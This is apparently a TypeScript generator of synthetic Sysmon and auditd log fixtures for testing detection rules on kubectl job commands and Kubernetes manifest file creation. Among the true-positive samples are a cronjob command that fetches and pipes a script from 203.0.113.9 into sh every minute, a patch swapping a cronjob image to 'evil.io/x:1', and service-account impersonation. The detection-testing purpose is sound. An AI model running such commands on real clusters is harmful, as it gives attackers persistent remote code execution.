/**
 * Writes the endpoint test cases of CW-012 (process start) and CW-013 (file creation):
 * Sysmon for Windows and Sysmon for Linux events in the Windows event XML rendering
 * (`wevtutil qe /f:xml`, `sysmon -t` output), and auditd SYSCALL/EXECVE groups. Field names
 * and layouts follow Sysmon's event schema (EID 1 ProcessCreate, EID 11 FileCreate) and the
 * Linux audit record format; values are made up for a small company (CORP, ADMIN-WS01).
 *
 * Run: `npx tsx scripts/gen-endpoint-rule-tests.ts`.
 */
import { createHash } from 'node:crypto';
import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { dirname } from 'node:path';

const ROOT = new URL('../', import.meta.url).pathname;
let clock = Date.parse('2026-11-24T10:15:02.120Z');
let record = 48_210;

/** Sets the clock of the next event. */
export function setEndpointClock(ms: number): void {
  clock = ms;
}

function guid(seed: string): string {
  const hex = createHash('sha256').update(seed).digest('hex').toUpperCase();
  return `{${hex.slice(0, 8)}-${hex.slice(8, 12)}-${hex.slice(12, 16)}-${hex.slice(16, 20)}-${hex.slice(20, 32)}}`;
}

function escapeXml(text: string): string {
  return text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
}

interface Host {
  readonly computer: string;
  readonly linux: boolean;
}

export const ADMIN_WS: Host = { computer: 'ADMIN-WS01.corp.example.com', linux: false };
export const BASTION: Host = { computer: 'bastion-01', linux: true };
export const NODE: Host = { computer: 'aks-nodepool1-12345678-vmss000001', linux: true };

function sysmon(host: Host, eventId: number, data: Record<string, string>): string {
  clock += 23_000;
  record += 1;
  const time = new Date(clock).toISOString().replace('Z', '0000Z');
  const provider = host.linux
    ? '<Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/>'
    : '<Provider Name="Microsoft-Windows-Sysmon" Guid="{5770385f-c22a-43e0-bf4c-06f5698ffbd9}"/>';
  const channel = host.linux ? 'Linux-Sysmon/Operational' : 'Microsoft-Windows-Sysmon/Operational';
  const fields = {
    RuleName: '-',
    UtcTime: new Date(clock).toISOString().replace('T', ' ').replace('Z', ''),
    ...data,
  };
  const eventData = Object.entries(fields)
    .map(([name, value]) => `<Data Name="${name}">${escapeXml(value)}</Data>`)
    .join('');
  return (
    `<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System>${provider}` +
    `<EventID>${eventId}</EventID><Version>5</Version><Level>4</Level><Task>${eventId}</Task><Opcode>0</Opcode>` +
    `<Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="${time}"/><EventRecordID>${record}</EventRecordID>` +
    `<Correlation/><Execution ProcessID="3052" ThreadID="4180"/><Channel>${channel}</Channel>` +
    `<Computer>${host.computer}</Computer><Security UserID="${host.linux ? '0' : 'S-1-5-18'}"/></System>` +
    `<EventData>${eventData}</EventData></Event>`
  );
}

export function processCreate(
  host: Host,
  image: string,
  commandLine: string,
  user: string,
  parent: string,
): string {
  const pid = String(7000 + (record % 900));
  return sysmon(host, 1, {
    ProcessGuid: guid(`p${record}`),
    ProcessId: pid,
    Image: image,
    FileVersion: '-',
    Description: '-',
    Product: '-',
    Company: '-',
    OriginalFileName: '-',
    CommandLine: commandLine,
    CurrentDirectory: host.linux ? '/home/alice' : 'C:\\Users\\alice\\',
    User: user,
    LogonGuid: guid(`l${record}`),
    LogonId: host.linux ? '1000' : '0x3e7a21',
    TerminalSessionId: host.linux ? '3' : '1',
    IntegrityLevel: host.linux ? 'no level' : 'Medium',
    Hashes: `SHA256=${createHash('sha256').update(image).digest('hex').toUpperCase()}`,
    ParentProcessGuid: guid(`pp${record}`),
    ParentProcessId: '5120',
    ParentImage: parent,
    ParentCommandLine: parent,
    ParentUser: user,
  });
}

export function fileCreate(host: Host, image: string, target: string, user: string): string {
  return sysmon(host, 11, {
    ProcessGuid: guid(`f${record}`),
    ProcessId: '2290',
    Image: image,
    TargetFilename: target,
    CreationUtcTime: new Date(clock).toISOString().replace('T', ' ').replace('Z', ''),
    User: user,
  });
}

/** An auditd execve group (SYSCALL, EXECVE, CWD, PATH, PROCTITLE, EOE) for one command. */
export function auditdExec(exe: string, argv: readonly string[], uid: number): string {
  clock += 19_000;
  record += 1;
  const stamp = `${(clock / 1000).toFixed(3)}:${record}`;
  const hex = (text: string) => Buffer.from(text).toString('hex').toUpperCase();
  const args = argv
    .map((arg, index) => (/[\s"]/.test(arg) ? `a${index}=${hex(arg)}` : `a${index}="${arg}"`))
    .join(' ');
  const comm = exe.split('/').pop() ?? exe;
  return [
    `type=SYSCALL msg=audit(${stamp}): arch=c000003e syscall=59 success=yes exit=0 a0=55d1c0a3e0 a1=55d1c0a4f0 a2=55d1c0a600 a3=0 items=2 ppid=2211 pid=${2290 + (record % 50)} auid=${uid} uid=${uid} gid=${uid} euid=${uid} suid=${uid} fsuid=${uid} egid=${uid} sgid=${uid} fsgid=${uid} tty=pts0 ses=3 comm="${comm}" exe="${exe}" subj=unconfined key="exec"`,
    `type=EXECVE msg=audit(${stamp}): argc=${argv.length} ${args}`,
    `type=CWD msg=audit(${stamp}): cwd="/home/alice"`,
    `type=PATH msg=audit(${stamp}): item=0 name="${exe}" inode=1837365 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0`,
    `type=PROCTITLE msg=audit(${stamp}): proctitle=${hex(argv.join('\u0000'))}`,
    `type=EOE msg=audit(${stamp}):`,
  ].join('\n');
}

export const KUBECTL_WIN = 'C:\\Program Files\\Kubernetes\\kubectl.exe';
export const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';

const CASES: Record<string, Record<'tp' | 'fp', Record<string, string>>> = {
  'rules/endpoint/cw-012-kubectl-job-commands': {
    tp: {
      'windows-kubectl-exe-create-job-from.xml': processCreate(
        ADMIN_WS,
        KUBECTL_WIN,
        `"${KUBECTL_WIN}" -n payments --context aks-prod create job db-backup-manual --from=cronjob/db-backup`,
        'CORP\\alice',
        POWERSHELL,
      ),
      'windows-impersonation-get-cronjobs.xml': processCreate(
        ADMIN_WS,
        KUBECTL_WIN,
        `kubectl.exe --as=system:serviceaccount:kube-system:cronjob-controller get cronjobs -A`,
        'CORP\\alice',
        POWERSHELL,
      ),
      'linux-sysmon-oc-create-cronjob.xml': processCreate(
        BASTION,
        '/usr/local/bin/oc',
        `oc create cronjob sync --image=alpine --schedule="*/1 * * * *" -- /bin/sh -c "wget -qO- http://203.0.113.9/x | sh"`,
        'mallory',
        '/usr/bin/bash',
      ),
      'linux-sysmon-patch-cronjob-quoted.xml': processCreate(
        BASTION,
        '/usr/local/bin/kubectl',
        `/usr/local/bin/kubectl --kubeconfig /tmp/k "patch" "cj" db-backup -n payments --type=json -p '[{"op":"replace","path":"/spec/jobTemplate/spec/template/spec/containers/0/image","value":"evil.io/x:1"}]'`,
        'mallory',
        '/usr/bin/bash',
      ),
      'auditd-apply-filename.log': auditdExec(
        '/usr/local/bin/kubectl',
        ['kubectl', '-n', 'payments', 'apply', '--filename=cronjob.yaml'],
        1000,
      ),
    },
    fp: {
      'windows-get-pods.xml': processCreate(
        ADMIN_WS,
        KUBECTL_WIN,
        `kubectl.exe -n payments get pods -o wide`,
        'CORP\\alice',
        POWERSHELL,
      ),
      'windows-notepad-kubectl-notes.xml': processCreate(
        ADMIN_WS,
        'C:\\Windows\\System32\\notepad.exe',
        `"C:\\Windows\\System32\\notepad.exe" C:\\Users\\alice\\kubectl-notes.txt`,
        'CORP\\alice',
        'C:\\Windows\\explorer.exe',
      ),
      'linux-sysmon-describe-cronjob.xml': processCreate(
        BASTION,
        '/usr/local/bin/kubectl',
        `kubectl describe cronjob db-backup -n payments`,
        'alice',
        '/usr/bin/bash',
      ),
      'auditd-logs-follow-job.log': auditdExec(
        '/usr/local/bin/kubectl',
        ['kubectl', 'logs', '-f', 'job/db-backup-29401170'],
        1000,
      ),
      'linux-sysmon-helm-upgrade.xml': processCreate(
        BASTION,
        '/usr/local/bin/helm',
        `helm upgrade --install report ./charts/report -f values.yaml`,
        'alice',
        '/usr/bin/bash',
      ),
    },
  },
  'rules/endpoint/cw-013-job-or-static-pod-manifest-file': {
    tp: {
      'linux-static-pod-dropped.xml': fileCreate(
        NODE,
        '/usr/bin/cp',
        '/etc/kubernetes/manifests/kube-proxy-sync.yaml',
        'root',
      ),
      'windows-cronjob-manifest-downloaded.xml': fileCreate(
        ADMIN_WS,
        'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
        'C:\\Users\\alice\\Downloads\\cronjob-updater.yaml',
        'CORP\\alice',
      ),
      'linux-job-manifest-in-tmp.xml': fileCreate(
        BASTION,
        '/usr/bin/curl',
        '/tmp/job.yml',
        'mallory',
      ),
    },
    fp: {
      'kubeadm-upgrade-writes-static-pod.xml': fileCreate(
        NODE,
        '/usr/bin/kubeadm',
        '/etc/kubernetes/manifests/etcd.yaml',
        'root',
      ),
      'ci-workflow-file.xml': fileCreate(
        BASTION,
        '/usr/bin/git',
        '/home/alice/src/app/.github/workflows/build-job.yml',
        'alice',
      ),
      'app-config-yaml.xml': fileCreate(
        BASTION,
        '/usr/bin/vim',
        '/home/alice/src/app/config.yaml',
        'alice',
      ),
    },
  },
};

if (import.meta.url === `file://${process.argv[1]}`) {
  for (const [rule, sets] of Object.entries(CASES)) {
    const folder = `${ROOT}${rule}.tests`;
    rmSync(folder, { recursive: true, force: true });
    for (const expected of ['tp', 'fp'] as const) {
      for (const [name, text] of Object.entries(sets[expected])) {
        const path = `${folder}/${expected}/${name}`;
        mkdirSync(dirname(path), { recursive: true });
        writeFileSync(path, `${text}\n`);
      }
    }
  }
}
